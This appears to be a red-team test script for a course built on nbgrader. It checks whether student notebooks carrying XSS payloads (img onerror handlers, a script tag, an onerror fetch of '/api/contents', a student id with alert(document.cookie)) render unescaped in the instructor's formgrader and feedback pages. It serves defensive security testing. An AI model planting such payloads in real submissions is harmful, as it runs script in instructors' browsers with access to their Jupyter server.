"""Red team round 16 (hostile): student HTML/script reaches the instructor's formgrader unsanitised
(class 3: script in the instructor's browser, on the Jupyter server's origin).

    timeout 1800 python tests/redteam/round16/hostile/formgrader_xss.py

The instructor's workflow in a scratch course (release, collect, autograde), then the autograded
notebook rendered exactly as nbgrader's formgrader renders it for manual grading (its HTMLExporter with
the `formgrade` template, `SubmissionHandler.get`'s resources). The guide sends the instructor to the
formgrader for every flagged part; the student can make sure to be flagged.

`xss` = the model answers plus, after Part 1's answer, one added code cell whose last value has a
`_repr_html_` (no import: plain Python) and one added Markdown cell with raw HTML. Prints which
payload markers reach the formgrader page and whether the feedback page (attnlab's, sanitised) has them.
"""
from __future__ import annotations

import json
import os
import re
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]
sys.path.insert(0, str(ROOT / "tests"))
CHAPTER = "02-scaled-attention"

CODE = '''class Note:
    def _repr_html_(self):
        return "<b>ok</b><img src=x onerror=\\"fetch('/api/contents').then(r=>r.text()).then(t=>document.title='PWNED-OUTPUT')\\">"
Note()
'''
MARKDOWN = 'My notes on Part 1. <img src=x onerror="document.title=\'PWNED-MARKDOWN\'"><script>var pwned="PWNED-SCRIPT"</script>'


def main():
    from grading import write_submission
    from instructor_course import cli, copy_course

    with tempfile.TemporaryDirectory(prefix="rt16h-xss-") as tmp:
        tmp = Path(tmp)
        root = copy_course(tmp / "course")
        os.environ["ATTNLAB_COURSE_ROOT"] = str(root)
        os.environ.pop("ATTNLAB_GRADEBOOK_URL", None)
        assert cli("release")[0] == 0
        write_submission(CHAPTER, tmp / "download" / "honest_exercises.ipynb", {})
        path = write_submission(CHAPTER, tmp / "download" / "xss_exercises.ipynb", {})
        nb = json.loads(path.read_text())
        at = next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "raw_scores")
        nb["cells"][at + 1:at + 1] = [
            {"cell_type": "code", "id": "my-notes-code", "metadata": {}, "execution_count": None, "outputs": [], "source": CODE},
            {"cell_type": "markdown", "id": "my-notes-md", "metadata": {}, "source": MARKDOWN},
        ]
        path.write_text(json.dumps(nb, indent=1))
        print("collect", cli("collect", CHAPTER, str(tmp / "download"))[0])
        status, out, err = cli("autograde", CHAPTER, "--workers", "1")
        print("autograde", status)
        for line in out.splitlines():
            if line.startswith(("honest", "xss")):
                print("   ", line[:300])
        # the formgrader's rendering (nbgrader/server_extensions/formgrader: formgrader.py + handlers.py)
        from nbconvert.exporters import HTMLExporter
        from traitlets.config import Config
        from nbgrader.server_extensions.formgrader import handlers
        cfg = Config()
        cfg.HTMLExporter.template_name = "formgrade"
        cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
        exporter = HTMLExporter(config=cfg)
        graded = root / "autograded" / "xss" / CHAPTER / "exercises.ipynb"
        resources = {"assignment_id": CHAPTER, "notebook_id": "exercises", "submission_id": "x", "index": 0,
                     "total": 2, "base_url": "", "student": "xss", "last_name": None, "first_name": None,
                     "notebook_path": "autograded/xss/" + CHAPTER + "/exercises.ipynb"}
        html, _ = exporter.from_filename(str(graded), resources=resources)
        for marker in ("onerror=\"fetch(", "PWNED-OUTPUT", "onerror=\"document.title='PWNED-MARKDOWN'", "<script>var pwned"):
            print(f"formgrader page holds {marker!r}: {marker in html}")
        # a student id chosen through the nested zip of collect_nested_zip.py (no "/" needed)
        evil = dict(resources, student="<img src=x onerror=alert(document.cookie)>")
        html2, _ = exporter.from_filename(str(graded), resources=evil)
        print("formgrader page shows a student id unescaped:", "<img src=x onerror=alert(document.cookie)>" in html2)
        status, out, err = cli("feedback", CHAPTER)
        print("feedback", status)
        page = (root / "feedback" / "xss" / CHAPTER / "exercises.html")
        text = page.read_text() if page.is_file() else ""
        print("feedback page written:", page.is_file(), "| live <img onerror> in it:", bool(re.search(r"<img[^>]*onerror", text)),
              "| <script>var pwned in it:", "<script>var pwned" in text)


if __name__ == "__main__":
    main()
